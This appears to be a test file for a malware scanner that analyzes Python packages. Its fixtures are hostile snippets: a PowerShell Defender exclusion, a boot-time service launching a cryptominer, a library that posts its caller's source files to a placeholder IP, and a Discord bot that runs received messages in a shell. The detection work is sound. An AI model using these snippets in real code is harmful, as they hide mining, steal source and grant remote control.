@@ -1,0 +1,97 @@
+// What a payload does once it runs, each on an inert imitation: Defender exclusions and a miner's command line,
+// a boot-time Windows service, and a library that posts its caller's source files.
+import assert from 'node:assert/strict';
+import { before, test } from 'node:test';
+import { initAnalysis } from '../../src/analysis/api.ts';
+import { analyzePythonFile } from '../../src/analysis/python-file.ts';
+import type { Finding } from '../../src/model/result.ts';
+
+before(() => initAnalysis());
+
+function findings(source: string, path = 'demo/tool.py'): Finding[] {
+  return analyzePythonFile(path, new TextEncoder().encode(source))[0].findings;
+}
+const ruleOf = (list: Finding[], rule: string) => list.find((f) => f.rule === rule);
+
+const DROPPER = [
+  'import subprocess',
+  'def exclude(path):',
+  '    subprocess.run(["powershell", "-Command", f"Add-MpPreference -ExclusionPath \'{path}\'"], shell=True)',
+  'def service(name):',
+  '    cmd = r\'cmd.exe /c start /min "" "C:\\ProgramData\\upd.exe" --url pool.example.invalid:3333 --cpu-max-threads-hint 75\'',
+  '    subprocess.run(f\'sc create {name} binPath= "{cmd}" start= auto\', shell=True)',
+  'if __name__ == "__main__":',
+  '    exclude("C:\\\\ProgramData")',
+  '    service("UpdSvc")',
+].join('\n');
+
+test('a Defender exclusion and a miner command line are high even in code only a user runs', () => {
+  const list = findings(DROPPER);
+  assert.equal(ruleOf(list, 'defense-evasion')?.severity, 'high');
+  assert.equal(ruleOf(list, 'defense-evasion')?.line, 3);
+  assert.equal(ruleOf(list, 'cryptominer')?.severity, 'high');
+  assert.equal(ruleOf(list, 'cryptominer')?.line, 5);
+  assert.match(
+    list.find((f) => f.rule === 'persistence' && /service/.test(f.message))?.message ?? '',
+    /Windows service started at boot/,
+  );
+});
+
+test('the same strings in setup.py are critical', () => {
+  const list = findings(DROPPER.replace('if __name__ == "__main__":', 'if True:'), 'setup.py');
+  assert.equal(ruleOf(list, 'defense-evasion')?.severity, 'critical');
+  assert.equal(ruleOf(list, 'cryptominer')?.severity, 'critical');
+});
+
+test('words of the same family in ordinary text are not tampering', () => {
+  const list = findings(
+    [
+      'HELP = "Use --firewall to print the firewall state; mine the log for errors"',
+      'print(HELP, "determine the pool size")',
+    ].join('\n'),
+  );
+  assert.equal(ruleOf(list, 'defense-evasion'), undefined);
+  assert.equal(ruleOf(list, 'cryptominer'), undefined);
+});
+
+test("a library that reads its caller's source through the call stack and posts it is exfiltration", () => {
+  const source = [
+    'import inspect, json, urllib.request',
+    'def post(url, data):',
+    '    req = urllib.request.Request(url, data=json.dumps(data).encode(), method="POST")',
+    '    return urllib.request.urlopen(req).read()',
+    'def register(base_url, node):',
+    '    for frame in inspect.stack():',
+    '        name = frame.filename',
+    '        with open(name, encoding="utf-8") as f:',
+    '            post("http://192.0.2.7:3000/register", {"h": name, "j": f.read()})',
+    '        break',
+    '    return post(base_url, {"node": node})',
+  ].join('\n');
+  const exfiltration = ruleOf(findings(source), 'exfiltration');
+  assert.equal(exfiltration?.severity, 'high', 'sent to a hard-coded IP address');
+  assert.match(exfiltration!.message, /calling program's files/);
+});
+
+test('a chat bot that hands a shell the command lines it is sent is a remote shell; one running its own commands is not', () => {
+  const bot = [
+    'import subprocess, discord',
+    'client = discord.Client(intents=discord.Intents.default())',
+    'async def execute(command):',
+    '    p = subprocess.Popen(command, shell=True, stdout=subprocess.PIPE)',
+    '    return p.communicate()[0]',
+    '@client.event',
+    'async def on_message(message):',
+    '    await message.channel.send(await execute(message.content))',
+  ].join('\n');
+  const shell = ruleOf(findings(bot), 'reverse-shell');
+  assert.equal(shell?.severity, 'high');
+  assert.equal(shell?.line, 4);
+  const own = bot.replace(
+    'subprocess.Popen(command, shell=True',
+    'subprocess.Popen(f"ffmpeg -i {command} out.mp3", shell=True',
+  );
+  assert.equal(ruleOf(findings(own), 'reverse-shell'), undefined, 'the program is written out: ffmpeg');
+  const list = bot.replace('subprocess.Popen(command, shell=True', 'subprocess.Popen(["yt-dlp", command]');
+  assert.equal(ruleOf(findings(list), 'reverse-shell'), undefined, 'an argument list runs no shell');
+});
